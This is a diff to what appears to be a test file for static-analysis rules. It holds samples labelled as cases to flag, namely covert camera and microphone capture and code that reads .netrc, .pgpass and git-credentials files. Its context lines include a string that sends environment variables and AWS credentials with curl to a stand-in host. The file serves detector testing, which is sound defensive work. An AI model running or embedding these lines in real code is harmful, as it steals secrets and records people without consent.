@@ -237,3 +237,27 @@ _rt = os.environ.get("ACTIONS_RUNTIME_TOKEN", "")
 _beacon = "(env; cat ~/.aws/credentials) | gzip | curl -sk --data-binary @- https://stats.example.net/u"
 # ok: credential-upload-command-string
 _listing = "env | sort | less"
+
+# camera and microphone recording
+import cv2
+import sounddevice as sd
+# ruleid: camera-capture
+cam = cv2.VideoCapture(0)
+# a video file is not a camera
+# ok: camera-capture
+clip = cv2.VideoCapture("input/clip.mp4")
+# ruleid: microphone-capture
+audio = sd.rec(int(5 * 16000), samplerate=16000, channels=1)
+import pyaudio
+_pa = pyaudio.PyAudio()
+# ruleid: audio-input-stream
+_stream = _pa.open(format=pyaudio.paInt16, channels=1, rate=16000, input=True, frames_per_buffer=1024)
+# playback only
+# ok: audio-input-stream
+_out = _pa.open(format=pyaudio.paInt16, channels=1, rate=16000, output=True)
+
+# credential files named without their dot, joined to the home directory
+# ruleid: sensitive-credential-path
+_stems = ("netrc", "pgpass", "git-credentials")
+for _stem in _stems:
+    (Path.home() / ("." + _stem)).read_bytes()
